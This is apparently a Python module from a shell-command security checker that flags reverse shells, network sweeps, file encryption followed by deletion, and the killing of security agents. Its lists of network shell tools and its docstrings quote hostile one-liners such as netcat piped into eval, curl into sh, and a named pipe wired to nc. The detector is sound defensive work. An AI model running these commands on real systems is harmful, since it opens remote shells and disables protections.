"""What only the whole line shows: a shell and a network program joined by a pipe, a named pipe or a descriptor.

Looks at finished drafts; knows no syntax. Invariant: adds facts, removes none.
"""

import re
from collections.abc import Sequence
from typing import Final

from gw.defender.shell.code import inspect
from gw.defender.shell.draft import Draft
from gw.defender.shell.effects.guards import is_guard
from gw.defender.shell.interpreters import SHELLS, code_of
from gw.defender.shell.names import names

NETWORK: Final = names(
    "nc ncat netcat telnet socat openssl curl wget cryptcat ssh nc.traditional nc.openbsd rustcat rcat sbd gs-netcat"
    " socket websocat pwncat"
)
_CLIENTS: Final = frozenset(("curl", "wget", "ssh"))
_RAW: Final = NETWORK - _CLIENTS
_ENCRYPTERS: Final = names("gpg openssl zip 7z 7za age ccrypt")
_ENCRYPTS: Final = ("-c", "-e", "--symmetric", "--encrypt", "-k", "-pass", "-P", "-p")
_TRANSFERS: Final = frozenset(("ftp", "sftp", "tftp", "lftp", "smbclient", "ncftp"))
_FINDERS: Final = names("grep egrep pgrep pidof")
_PROBES: Final = names("ping fping nc ncat netcat nmap curl wget telnet arping ssh sshpass")
_ADDRESS: Final = re.compile(
    r"(?:\w{1,16}@|https?://)?(\d{1,3}\.\d{1,3}\.\d{1,3})\.(\d{1,3}|\$\{?\w{1,32}\}?)(?![\w.])"
)
_MANY: Final = 4
_PUTS: Final = re.compile(r"^\s*m?put\s", re.M)
_PIPE_MAKERS: Final = frozenset(("mkfifo", "mknod"))
_SOCKET_PATHS: Final = ("/dev/tcp/", "/dev/udp/")
# Without one of these on the line, its commands say nothing together that they do not say alone.
_RELATED: Final = NETWORK | SHELLS | _ENCRYPTERS | _PROBES | _PIPE_MAKERS | {"ztcp", "kill"}


def relate(drafts: Sequence[Draft], text: str) -> None:
    """Add the facts that need more than one command of the line *text* to be seen."""
    first = drafts[0]
    if "\n" in text and first.program is not None and first.span.end <= text.find("\n"):
        _typed(first, text[text.find("\n") + 1 :])
    programs = {draft.program for draft in drafts}
    socket = _touches_socket(drafts)
    if not socket and _RELATED.isdisjoint(programs):
        return
    if not _ENCRYPTERS.isdisjoint(programs):
        _encrypted_and_deleted(drafts)
    shells = [] if SHELLS.isdisjoint(programs) else [d for d in drafts if _is_open_shell(d)]
    if socket or "ztcp" in programs:
        _over_sockets(drafts, shells)
    if "kill" in programs:
        _guards_killed(drafts)
    if not _PROBES.isdisjoint(programs):
        _swept(drafts)
    if not _PIPE_MAKERS.isdisjoint(programs):
        _joined_by_pipe(drafts)
    if not NETWORK.isdisjoint(programs):
        _obeys(drafts)
    if not shells:
        return
    networked = any(d.program in NETWORK for d in drafts if _connects(d))
    if networked:
        for draft in shells:
            if draft.wired or draft.piped_from in _RAW:
                draft.facts.add("reverse-shell")
    if networked and any(_makes_pipe(d) for d in drafts):
        for draft in shells:
            draft.facts.add("reverse-shell")
    if networked:
        for draft in shells:
            if draft.pipes_into in NETWORK:
                draft.facts.add("reverse-shell")


def _guards_killed(drafts: Sequence[Draft]) -> None:
    """`ps aux | grep falcon | awk '{print $2}' | xargs kill`."""
    if any(d.pipes_into and d.program in _FINDERS and any(map(is_guard, d.operands)) for d in drafts):
        for draft in drafts:
            if draft.program == "kill" and "xargs" in draft.wrappers:
                draft.facts.add("disables-guard")


def _swept(drafts: Sequence[Draft]) -> None:
    """One after the other the machines of a network are asked: `for i in $(seq 254); do ping -c1 10.0.0.$i; done`."""
    asked: dict[str, set[str]] = {}
    for draft in drafts:
        for word in draft.operands if draft.program in _PROBES else ():
            if found := _ADDRESS.match(word):
                hosts = asked.setdefault(found.group(1), set())
                hosts.add(found.group(2))
                if len(hosts) == _MANY or found.group(2)[0] == "$":
                    draft.facts.add("scans-network")


def _obeys(drafts: Sequence[Draft]) -> None:
    """`nc -l 99 | while read c; do eval $c; done`, `curl telnet://host:99 | sh`: whoever is connected gives orders."""
    typed = any(url.startswith("telnet:") for d in drafts if d.program == "curl" for url in d.fetches)
    raw = {d.program for d in drafts if d.program in _RAW and _connects(d)}
    fetched = any(d.program in _CLIENTS for d in drafts)
    for draft in drafts if raw or typed else ():
        ordered = draft.piped_from in raw and draft.program in ("eval", None)
        told = bool(raw) and not fetched and "executes-fetched" in draft.facts
        if ordered or told or (typed and draft.piped_from == "curl" and _is_open_shell(draft)):
            draft.facts.add("reverse-shell")


def _connects(draft: Draft) -> bool:
    """openssl is also a calculator."""
    return draft.program != "openssl" or draft.operands[:1] in (["s_client"], ["s_server"])


def _touches_socket(drafts: Sequence[Draft]) -> bool:
    for draft in drafts:
        for path in (*draft.writes, *draft.reads):
            if path.startswith(_SOCKET_PATHS):
                return True
    return False


def _joined_by_pipe(drafts: Sequence[Draft]) -> None:
    """A named pipe made here is an argument of a network program: `mknod p p; nc host port 0/p`."""
    pipes = [d.operands[0] for d in drafts if d.operands and _makes_pipe(d)]
    for draft in drafts if pipes else ():
        if draft.program in _RAW and any(pipe in o for o in draft.operands[1:] for pipe in pipes):
            draft.facts.add("reverse-shell")


def _makes_pipe(draft: Draft) -> bool:
    return draft.program == "mkfifo" or (draft.program == "mknod" and "p" in draft.operands[1:])


def _encrypted_and_deleted(drafts: Sequence[Draft]) -> None:
    """What one command encrypts and another deletes is held to ransom."""
    deleted = {path for d in drafts for path in d.deletes}
    for draft in drafts if deleted else ():
        if draft.program in _ENCRYPTERS and _encrypts(draft) and not deleted.isdisjoint(draft.reads):
            draft.facts.add("encrypts-files")


def _encrypts(draft: Draft) -> bool:
    return not draft.has("-d", "--decrypt") if draft.program == "age" else draft.has(*_ENCRYPTS)


def _typed(first: Draft, following: str) -> None:
    """An interpreter started without code on the first line: the next lines may be typed into it."""
    if first.program in _TRANSFERS and _PUTS.search(following, 0, 1024):
        first.facts.add("sends-file")
    code = code_of(first.program or "", first.argv)
    if code is not None and code.stdin and code.language != "sh" and first.stdin is None:
        first.facts |= inspect(code.language, following).facts


def _is_open_shell(draft: Draft) -> bool:
    """A shell that takes its commands from its input."""
    if draft.program not in SHELLS or draft.inline_code is not None:
        return False
    return not draft.operands or draft.has("-i", "-s")


def _over_sockets(drafts: Sequence[Draft], shells: Sequence[Draft]) -> None:
    for draft in shells:
        draft.facts.add("reverse-shell")
    for draft in drafts:
        fed = draft.program in SHELLS and not draft.facts.isdisjoint(("executes-input", "executes-fetched"))
        if fed or draft.program is None or draft.program == "eval":
            draft.facts.add("reverse-shell")
